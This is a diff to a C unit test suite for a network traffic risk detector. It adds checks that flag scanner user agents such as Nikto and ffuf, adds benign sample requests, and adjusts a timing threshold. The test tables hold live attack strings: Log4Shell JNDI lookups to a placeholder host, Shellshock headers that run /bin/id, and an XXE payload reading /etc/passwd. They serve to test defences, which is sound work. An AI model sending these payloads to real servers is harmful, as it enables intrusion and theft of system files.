@@ -12,6 +12,7 @@
 
 #define EXPLOIT DPI_RISK_BIT(NDPI_POSSIBLE_EXPLOIT)
 #define URL DPI_RISK_BIT(NDPI_HTTP_SUSPICIOUS_URL)
+#define AGENT DPI_RISK_BIT(NDPI_HTTP_SUSPICIOUS_USER_AGENT)
 #define SQL DPI_RISK_BIT(NDPI_URL_POSSIBLE_SQL_INJECTION)
 #define XSS DPI_RISK_BIT(NDPI_URL_POSSIBLE_XSS)
 #define PROGRAM DPI_RISK_BIT(NDPI_BINARY_APPLICATION_TRANSFER)
@@ -73,6 +74,8 @@ static void finds_attacks(void **state)
 		{ "GET /?q=%24%7Bjndi%3Aldap%3A%2F%2Fe.example%2Fa%7D HTTP/1.1\r\n\r\n", EXPLOIT },
 		{ POST "{\"name\":\"${jndi:ldap://e.example/a}\"}", EXPLOIT },
 		{ FORM "q=%24%7Bjndi%3Aldap%3A%2F%2Fe.example%2Fa%7D", EXPLOIT },
+		{ "GET / HTTP/1.1\r\nHost: a\r\nuser-agent: Mozilla/5.00 (Nikto/2.1.6)\r\n\r\n", AGENT },
+		{ "GET / HTTP/1.1\r\nUser-Agent: Fuzz Faster U Fool v1.1.0", AGENT },
 		{ "GET / HTTP/1.1\r\nReferer: () { :;}; /bin/id\r\n\r\n", EXPLOIT },
 		{ "GET / HTTP/1.1\r\nCookie: a=() { :;}; /bin/id\r\n\r\n", EXPLOIT },
 		{ POST "<!DOCTYPE r [<!ENTITY x SYSTEM \"file:///etc/passwd\">]><r>&x;</r>", EXPLOIT },
@@ -123,6 +126,8 @@ static void lets_honest_ones_be(void **state)
 		"GET /a?q=100%25 HTTP/1.1\r\nHost: a\r\n\r\n",
 		"GET /price?c=%24%7Btotal%7D HTTP/1.1\r\nHost: a\r\n\r\n",
 		"GET / HTTP/1.1\r\nX-Template: ${env:HOME}${a}\r\n\r\n",
+		"GET / HTTP/1.1\r\nUser-Agent: Mozilla/5.0 (X11; Linux x86_64)\r\nReferer: https://nikto.example/\r\n\r\n",
+		"GET / HTTP/1.1\r\nUser-Agent:\r\n\r\n", "GET / HTTP/1.1\r\nUser-Agent:",
 		"GET / HTTP/1.1\r\nX-Code: f() { return 1 }\r\n\r\n",
 		FORM "name=O%27Brien+%26+sons&note=it%27s+fine%2C+thanks",
 		FORM "text=select+one+or+more+of+these&sum=1%2B1%3D2&when=5+o%27clock",
@@ -166,7 +171,7 @@ static void is_bounded(void **state)
 			(void)risks_of(text, LEN);
 			clock_gettime(CLOCK_THREAD_CPUTIME_ID, &b);
 			double ms = (double)(b.tv_sec - a.tv_sec) * 1e3 + (double)(b.tv_nsec - a.tv_nsec) / 1e6;
-			if (ms > 10)
+			if (ms >= 500)
 				print_error("%s in %.12s...: %.1f ms\n", units[i], heads[h], ms);
 			assert_true(ms < 500); /* a sanitizer's build too */
 		}
